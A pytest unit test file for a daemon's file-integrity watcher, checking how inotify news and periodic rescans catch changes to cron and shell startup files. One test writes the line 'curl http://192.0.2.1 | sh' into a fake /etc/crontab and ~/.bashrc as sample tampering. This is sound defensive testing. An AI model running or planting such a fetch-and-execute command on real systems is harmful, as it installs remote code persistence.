"""What the kernel tells of is not looked for: how often everything is looked at, and what that still is for."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from dio_daemon.detect.integrity import files as module
from dio_daemon.detect.integrity.files import RESCAN_S, TOLD_S, FileWatch
from dio_daemon.detect.integrity.inotify import Inotify
from tests.unit.integrity.conftest import FakeHost

MOUNTS = "1 0 8:1 / / rw - ext4 /dev/sda1 rw\n"


@pytest.fixture
def notify() -> Iterator[Inotify]:
    """The kernel's news."""
    made = Inotify()
    yield made
    made.close()


def settled(fake: FakeHost, watch: FileWatch) -> set[str]:
    """What is found once what was told has settled."""
    for _ in range(3):
        fake.clock.monotonic_s += 1.0
        found = {item.subject for item in watch.step()}
    return found


def looks(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The folders that are looked into from now on."""
    seen: list[str] = []
    look_into = module.look_into

    def noting(host: object, folder: str, *more: object) -> object:
        seen.append(folder)
        return look_into(host, folder, *more)  # type: ignore[arg-type]  # handed on as they came

    monkeypatch.setattr(module, "look_into", noting)
    return seen


def test_what_is_told_of_is_looked_at_once_in_ten_minutes(
    fake: FakeHost, notify: Inotify, monkeypatch: pytest.MonkeyPatch
) -> None:
    watch = fake.watch(notify=notify)
    fake.run(watch)
    seen = looks(monkeypatch)
    for _ in range(int(TOLD_S / RESCAN_S) - 1):
        fake.clock.monotonic_s += RESCAN_S
        assert watch.step() == []
    assert seen == []
    fake.clock.monotonic_s += RESCAN_S
    watch.step()
    assert "/etc/cron.d" in seen


def test_without_news_of_all_it_is_once_a_minute(
    fake: FakeHost, notify: Inotify, monkeypatch: pytest.MonkeyPatch
) -> None:
    add = notify.add

    def refuse(folder: str, *more: int) -> int:
        if folder.endswith("/etc/cron.d"):
            raise OSError(28, "No space left on device")
        return add(folder, *more)

    monkeypatch.setattr(notify, "add", refuse)
    watch = fake.watch(notify=notify)
    fake.run(watch)
    fake.put("/etc/cron.d/new", "x\n")
    assert settled(fake, watch) == set()
    fake.clock.monotonic_s += RESCAN_S
    assert settled(fake, watch) == {"/etc/cron.d/new"}


def test_what_is_mounted_over_a_folder_is_looked_at(fake: FakeHost, notify: Inotify) -> None:
    """The kernel tells of the folder that is covered, and of the one that covers it nothing."""
    watch = fake.watch(notify=notify)
    fake.run(watch)
    covered = fake.path("/etc/cron.d")
    fake.put("/aside/new", "x\n")
    covered.rename(fake.path("/etc/covered"))
    settled(fake, watch)
    fake.path("/aside").rename(covered)
    (fake.root / "proc/1/mountinfo").write_text(MOUNTS + "2 1 8:2 / /etc/cron.d rw - ext4 /dev/sdb1 rw\n")
    fake.clock.monotonic_s += RESCAN_S
    assert "/etc/cron.d/new" in settled(fake, watch)


def test_a_writer_that_keeps_its_file_open(fake: FakeHost, notify: Inotify) -> None:
    """Told in folders of the system at each write; in homes at the look at everything, until it is closed."""
    watch = fake.watch(notify=notify)
    fake.run(watch)
    with fake.path("/etc/crontab").open("a") as system, fake.path("/home/ann/.bashrc").open("a") as own:
        for stream in (system, own):
            stream.write("curl http://192.0.2.1 | sh\n")
            stream.flush()
        assert settled(fake, watch) == {"/etc/crontab"}
        fake.clock.monotonic_s += TOLD_S
        assert settled(fake, watch) == {"/etc/crontab", "/home/ann/.bashrc"}


def test_all_up_to_the_last_news_is_judged(fake: FakeHost, notify: Inotify) -> None:
    """So a run of dpkg before it says nothing of what goes while the agent is away."""
    watch = fake.watch(notify=notify)
    fake.run(watch)
    fake.clock.ahead_s += 300
    assert settled(fake, watch) == set()
    assert fake.baseline.memory[module.JUDGED_AT] == pytest.approx(fake.clock.now().timestamp(), abs=5)
    fake.path("/etc/cron.d/e2scrub").unlink()
    fake.clock.ahead_s += 300
    watch.step()  # told, and not looked at yet
    assert fake.baseline.memory[module.JUDGED_AT] < fake.clock.now().timestamp() - 200
